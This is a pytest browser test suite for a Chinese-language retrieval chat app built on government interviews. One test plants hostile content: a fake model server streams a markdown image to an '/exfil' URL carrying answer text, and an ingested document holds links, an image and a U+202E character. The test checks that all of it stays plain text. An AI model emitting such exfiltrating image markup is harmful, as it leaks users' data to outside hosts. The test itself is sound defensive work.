"""The real chat page in headless Chromium: ask, read the sources, get refused, upload, two sessions."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from tests.conftest import ARTIFACTS, free_port, wait_for_server

pytestmark = pytest.mark.slow


def _ask(page, question: str) -> None:
    before = page.locator("#chat .message").count() if page.locator("#chat .message").count() else 0
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")
    page.wait_for_function(
        "n => document.querySelectorAll('#chat .message').length >= n + 2", arg=before, timeout=60000
    )
    page.wait_for_timeout(300)


def test_ask_read_sources_refuse(server, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.goto(server)
    page.wait_for_selector("#question textarea", timeout=60000)
    _ask(page, "市住建局取消了哪些纸质申报材料？")
    page.wait_for_selector("#sources .src-card mark", timeout=60000)
    assert page.locator("#chat a.cite").first.inner_text() == "[1]"
    marked = page.locator("#sources .src-passage mark").first.inner_text()
    assert "纸质申报材料" in marked
    assert "改革创新出实招服务企业促发展" in page.locator("#sources").inner_text()
    page.wait_for_function(
        "() => (document.querySelector('#copy-with-references textarea')?.value || '').includes('参考文献')",
        timeout=30000,
    )
    copy = page.locator("#copy-with-references textarea").input_value()
    assert "纸质申报材料" in copy and "[1] 《改革创新出实招服务企业促发展》，市住建局局长xxx，第" in copy
    page.screenshot(path=str(ARTIFACTS / "answer.png"), full_page=True)

    _ask(page, "开发区管委会主任毕业于哪所大学？")
    page.wait_for_selector("#sources .src-none", timeout=60000)
    assert "没有找到" in page.locator("#chat .message").last.inner_text()
    page.screenshot(path=str(ARTIFACTS / "refusal.png"), full_page=True)
    page.close()


def test_a_question_limited_to_one_interview_and_the_api_beside_the_page(server):
    """The page's interview selector (through its /ask event) and /v1/answers from the same process."""
    import httpx
    from gradio_client import Client

    client = Client(server, verbose=False)
    person = "市教育局党组书记、局长于晓峰"
    chat, sources, *_ = client.predict("审批时效提升了多少？", [], [person], api_name="/ask")
    assert "改革创新出实招" not in sources  # the housing bureau's figure is outside the chosen interview
    assert "坚定改革信心" in sources or "没有找到" in str(chat[-1]["content"])
    data = httpx.post(f"{server}v1/answers", json={"question": "审批时效提升了多少？"}, timeout=60).json()
    assert data["found"] and "50%" in data["text"] and data["citations"][0]["interviewee"] == "市住建局局长xxx"


def test_upload_then_ask(server, browser, tmp_path):
    doc = tmp_path / "科技局访谈.txt"
    doc.write_text(
        "科技局长谈创新\n记者：量子实验室什么时候建成？\n局长：量子计算实验室将于x月底前建成投用。", encoding="utf-8"
    )
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    page.goto(server)
    page.get_by_role("tab", name="资料库 Collection").click()
    page.locator("#upload input[type=file]").set_input_files(str(doc))
    page.wait_for_timeout(1500)
    page.locator("#add").click()
    page.wait_for_function(
        "() => (document.querySelector('#collection-status')?.innerText || '').includes('已索引')", timeout=120000
    )
    assert "科技局长谈创新" in page.locator("#documents").inner_text()
    page.get_by_role("tab", name="问答 Chat").click()
    _ask(page, "量子计算实验室什么时候建成投用？")
    page.wait_for_selector("#sources .src-card mark", timeout=60000)
    assert "x月底前" in page.locator("#sources .src-passage mark").first.inner_text()
    page.close()


def test_two_sessions_keep_their_own_conversations(server, browser):
    a = browser.new_context().new_page()
    b = browser.new_context().new_page()
    for page in (a, b):
        page.goto(server)
        page.wait_for_selector("#question textarea", timeout=60000)
    _ask(a, "乡村教育要实现怎样的转变？")
    _ask(b, "师德方面建立了什么清单？")
    assert "就近就便" in a.locator("#chat").inner_text() and "就近就便" not in b.locator("#chat").inner_text()
    assert "负面清单" in b.locator("#chat").inner_text() and "负面清单" not in a.locator("#chat").inner_text()


# --- nothing from a document or a model is live markup ------------------------------------------


class _FakeOpenAI:
    """An OpenAI-compatible server whose streamed reply carries an image pointing back at it.

    Any other GET (the image, a link followed) is recorded: the test fails if the page made one.
    """

    def __init__(self, reply_pieces: list[str]) -> None:
        import http.server
        import json
        import threading
        import time

        fetched = self.fetched = []
        pieces = reply_pieces

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):  # noqa: N802 -- the http.server name
                fetched.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def do_POST(self):  # noqa: N802
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                for piece in pieces:
                    chunk = {
                        "id": "c1",
                        "object": "chat.completion.chunk",
                        "created": 0,
                        "model": body.get("model", "fake"),
                        "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}],
                    }
                    self.wfile.write(f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode())
                    self.wfile.flush()
                    time.sleep(0.4)  # long enough for the browser to render each partial reply
                self.wfile.write(b"data: [DONE]\n\n")

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def test_streamed_and_quoted_markup_stays_text(tmp_path, browser, model_cache, e5):
    """A model streams an exfiltrating image; a document holds links, an image, "[1]", a backtick, U+202E."""
    from ingest.pipeline import ingest
    from rag.config import Settings

    pieces: list[str] = []
    llm = _FakeOpenAI(pieces)
    hostile = (
        f"局长：审批时限压缩到5个工作日以内，详见 {llm.url}/doc-link 和 [点此]({llm.url}/doc-md) "
        f"[1] 这个`符号\u202e反转。"
    )
    pieces += [
        "根据资料，",
        f"![]({llm.url}/exfil?d=审批时限)",
        " ",
        hostile.removeprefix("局长：") + "[1]",
    ]
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "hostile.md").write_text(
        f"# 安全测试访谈\n\n记者：审批时限压缩到多少？\n\n{hostile}\n\n局长：我们取消了纸质申报材料 ![]({llm.url}/doc.png)。\n",
        encoding="utf-8",
    )
    home = tmp_path / "home"
    ingest([folder], Settings(home=home, model_cache=model_cache), embedder=e5)
    port = free_port()
    env = {
        **os.environ,
        "RAG_HOME": str(home),
        "RAG_MODEL_CACHE": str(model_cache),
        "HF_HUB_OFFLINE": "1",
        "RAG_LLM_BASE_URL": f"{llm.url}/v1",
        "RAG_LLM_MODEL": "fake",
    }
    log = open(home / "server.log", "w")
    proc = subprocess.Popen([sys.executable, "-m", "ui", "--port", str(port)], env=env, stdout=log, stderr=log)
    url = f"http://127.0.0.1:{port}/"
    try:
        wait_for_server(proc, url=url, timeout=240, log=home / "server.log")
        page = browser.new_page(viewport={"width": 1400, "height": 900})
        requests = []
        page.on("request", lambda r: requests.append(r.url))
        page.goto(url)
        page.wait_for_selector("#question textarea", timeout=60000)
        _ask(page, "审批时限压缩到多少？")
        page.wait_for_function("() => document.querySelector('#chat').innerText.includes('反转')", timeout=60000)
        page.wait_for_timeout(1000)
        chat = page.locator("#chat")
        hrefs = chat.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        assert hrefs and all(h.startswith("#cite-") for h in hrefs), hrefs
        assert chat.locator("img").count() == 0 and chat.locator("code").count() == 0
        text = chat.inner_text()
        assert "<U+202E>" in text and "\u202e" not in text and "`符号" in text and "[点此](" in text
        assert "已删除" in text  # the image sentence was streamed, shown as text, then dropped as unverifiable
        page.screenshot(path=str(ARTIFACTS / "hostile-markup.png"), full_page=True)
        page.close()
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        llm.server.shutdown()
    assert llm.fetched == [], f"the page fetched {llm.fetched}"
    assert not [r for r in requests if r.startswith(llm.url)], requests


def test_api_docs_render_offline(server, browser):
    """/docs is Swagger UI from files the install brings: it renders with every request outside
    the server refused, and lists the routes."""
    from urllib.parse import urlparse

    host = urlparse(server).netloc
    page = browser.new_page()
    outside = []

    def only_the_server(route):
        if urlparse(route.request.url).netloc == host:
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    page.route("**/*", only_the_server)
    page.goto(server + "docs")
    page.wait_for_selector(".swagger-ui .opblock-summary-path", timeout=30000)
    paths = page.locator(".opblock-summary-path").all_inner_texts()
    assert "/v1/answers" in " ".join(paths) and "/v1/chat/completions" in " ".join(paths)
    page.screenshot(path=str(ARTIFACTS / "api-docs.png"), full_page=False)
    assert outside == []
    page.close()
